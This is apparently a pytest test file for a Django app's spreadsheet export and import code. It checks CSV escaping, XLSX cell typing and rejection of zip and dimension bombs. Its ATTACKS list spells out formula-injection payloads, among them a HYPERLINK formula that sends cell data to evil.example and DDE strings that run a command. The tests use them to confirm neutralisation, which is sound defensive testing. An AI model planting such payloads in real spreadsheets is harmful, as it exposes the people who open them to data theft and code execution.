import csv
import datetime
import io
import json

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from satu.core.errors import DomainError
from satu.core.exporters import Column, Exporter, export_response, render
from satu.core.importers import (
    ImportRejected,
    ImportTimeout,
    ImportTooLarge,
    collect_errors,
    memory_limit,
    read_table,
    require_columns,
    time_limit,
)
from satu.core.testing import bombs


class Numbers(Exporter):
    identifier = "numbers"
    title = "Numbers"
    columns = [Column("name", "Name"), Column("count", "Count"), Column("day", "Day")]

    def rows(self):
        yield ["Cilacap", 3, datetime.date(2026, 1, 31)]
        yield ['Kota Semarang, "pusat"', 0, None]


def test_csv_xlsx_and_json_carry_the_same_rows():
    csv_text = render(Numbers(), "csv").decode("utf-8-sig")
    assert csv_text.splitlines() == [
        "name,count,day",
        "Cilacap,3,2026-01-31",
        '"Kota Semarang, ""pusat""",0,',
    ]
    sheet = load_workbook(io.BytesIO(render(Numbers(), "xlsx"))).active
    assert [[c.value for c in row] for row in sheet.iter_rows()][1][:2] == ["Cilacap", 3]
    assert json.loads(render(Numbers(), "json"))[0] == {
        "name": "Cilacap",
        "count": 3,
        "day": "2026-01-31",
    }


def test_an_export_response_is_a_named_download():
    response = export_response(Numbers(), "xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="numbers.xlsx"'


def upload(data: bytes, name: str) -> io.BytesIO:
    buffer = io.BytesIO(data)
    buffer.name = name
    return buffer


def xlsx(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_rows_are_numbered_as_in_the_spreadsheet_and_blank_rows_skipped():
    table = read_table(
        upload(xlsx([["Nama", "Tahun"], ["A", 2024], [None, None], ["B", 2025.0]]), "x.xlsx")
    )
    assert table.columns == ["nama", "tahun"]
    assert [(row.number, row.get("nama"), row.get("tahun")) for row in table.rows] == [
        (2, "A", "2024"),
        (4, "B", "2025"),
    ]


def test_csv_with_semicolons_and_a_bom_is_read():
    table = read_table(upload("\ufeffnama;tahun\nA;2024\n".encode(), "x.csv"))
    assert table.rows[0].values == {"nama": "A", "tahun": "2024"}


def test_a_file_whose_content_is_not_what_its_name_claims_is_refused():
    with pytest.raises(DomainError) as error:
        read_table(upload(b"%PDF-1.7 binary \xff\xfe", "data.xlsx"))
    assert error.value.code == "bad_xlsx"
    with pytest.raises(DomainError) as error:
        read_table(upload(b"\xff\xfe\x00garbage", "data.csv"))
    assert error.value.code == "bad_encoding"


def test_errors_are_collected_and_reported_together():
    table = read_table(upload(b"nama,tahun\nA,dua ribu\nB,2025\nC,x\n", "x.csv"))
    with pytest.raises(ImportRejected) as rejected, collect_errors() as errors:
        for row in table.rows:
            if not row.get("tahun").isdigit():
                errors.add(row.number, "tahun", "bukan angka")
    assert [(e.row, e.column) for e in rejected.value.errors] == [(2, "tahun"), (4, "tahun")]


def test_a_missing_column_is_named():
    table = read_table(upload(b"nama\nA\n", "x.csv"))
    with pytest.raises(ImportRejected) as rejected:
        require_columns(table, ["nama", "tahun"])
    assert rejected.value.errors[0].column == "tahun"


ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


class Suggestions(Exporter):
    identifier = "saran"
    title = "Saran"
    columns = [Column("saran", "Saran"), Column("angka", "Angka")]

    def rows(self):
        for attack in ATTACKS:
            yield [attack, -5]
        yield ["-5", -2.5]
        yield ["Antrean lebih cepat - terima kasih", 0]


def test_text_that_a_spreadsheet_would_evaluate_is_written_as_text_in_csv():
    rows = list(csv.reader(io.StringIO(render(Suggestions(), "csv").decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:7]] == ["'" + attack for attack in ATTACKS]
    # Numbers, and a text that is only a number, compute nothing and stay as they are.
    assert [row[1] for row in rows[1:]] == ["-5"] * 6 + ["-2.5", "0"]
    assert rows[7][0] == "-5"
    assert rows[8][0] == "Antrean lebih cepat - terima kasih"


def test_text_that_a_spreadsheet_would_evaluate_is_a_string_cell_in_xlsx():
    sheet = load_workbook(io.BytesIO(render(Suggestions(), "xlsx"))).active
    cells = list(sheet.iter_rows(min_row=2))
    for (text, number), attack in zip(cells, ATTACKS, strict=False):
        assert (text.value, text.data_type) == (attack, "s")
        assert text.quotePrefix
        assert (number.value, number.data_type) == (-5, "n")
    assert (cells[6][0].value, cells[6][1].value) == ("-5", -2.5)
    assert not any(cell.data_type == "f" for row in cells for cell in row)


def test_json_carries_the_text_exactly():
    records = json.loads(render(Suggestions(), "json"))
    assert [record["saran"] for record in records[:6]] == ATTACKS


def test_an_exported_csv_imports_back_without_the_protective_quote():
    table = read_table(upload(render(Suggestions(), "csv"), "saran.csv"))
    assert [row.values["saran"] for row in table.rows][:6] == ATTACKS
    assert table.rows[6].values["saran"] == "-5"


# Hostile files: each is refused quickly, by a bound checked before or while parsing ----------


def test_a_sheet_declaring_a1_to_xfd1048576_is_read_as_the_cells_it_really_has():
    with bombs.within(5):
        table = read_table(upload(bombs.dimension_bomb_without_cells(), "bom.xlsx"))
    assert table.columns == ["nama"] and table.rows == []


def test_a_dimension_bomb_with_a_cell_in_the_far_corner_is_refused_at_the_row_limit():
    data = bombs.dimension_bomb()
    assert len(data) < 2_000
    with bombs.within(5), pytest.raises(DomainError) as error:
        read_table(upload(data, "bom.xlsx"))
    assert error.value.code == "too_many_rows"


def test_a_row_wider_than_the_column_limit_is_refused_without_padding_every_row():
    sheet = (
        '<?xml version="1.0"?><worksheet '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>nama</t></is></c></row>'
        + "".join(
            f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>'
            for n in range(2, 50_000)
        )
        + "</sheetData></worksheet>"
    )
    with bombs.within(5), pytest.raises(DomainError) as error:
        read_table(upload(bombs.workbook(sheet), "lebar.xlsx"))
    assert error.value.code == "too_many_columns"
    assert "2" in error.value.message


def test_a_zip_bomb_is_refused_from_the_archive_directory_before_anything_is_unpacked():
    data = bombs.zip_bomb(megabytes=200)
    assert len(data) < 1_000_000
    with bombs.within(2), pytest.raises(DomainError) as error:
        read_table(upload(data, "bom.xlsx"))
    assert error.value.code == "too_large_unpacked"


def test_a_million_empty_rows_are_refused_once_the_reader_passes_the_row_limit():
    with bombs.within(30), pytest.raises(DomainError) as error:
        read_table(upload(bombs.empty_rows(1_000_000), "kosong.xlsx"))
    assert error.value.code == "too_many_rows"


def test_a_file_above_the_upload_limit_is_refused_without_reading_it_all(settings):
    settings.SATU_MAX_UPLOAD_BYTES = 1024
    with pytest.raises(DomainError) as error:
        read_table(upload(b"nama\n" + b"A\n" * 2000, "besar.csv"))
    assert error.value.code == "too_large"


def test_a_csv_cell_longer_than_the_csv_module_allows_is_a_clear_error():
    with pytest.raises(DomainError) as error:
        read_table(upload(b'nama\n"' + b"x" * 200_000 + b'"\n', "panjang.csv"))
    assert error.value.code == "bad_csv"


def test_an_import_past_its_deadline_stops_with_a_clear_message():
    rows = "nama\n" + "".join(f"baris {n}\n" for n in range(5_000))
    with pytest.raises(ImportTimeout) as error, time_limit(seconds=-1):
        read_table(upload(rows.encode(), "lambat.csv"))
    assert error.value.code == "import_timeout"
    with translation.override("id"):
        assert "dihentikan" in str(ImportTimeout().message)


def test_an_import_that_needs_more_memory_than_allowed_is_stopped_and_the_limit_lifted():
    import resource

    before = resource.getrlimit(resource.RLIMIT_AS)
    with pytest.raises(ImportTooLarge), memory_limit(megabytes=64):
        bytearray(512 * 1024 * 1024)
    assert resource.getrlimit(resource.RLIMIT_AS) == before
    assert len(bytearray(128 * 1024 * 1024)) == 128 * 1024 * 1024
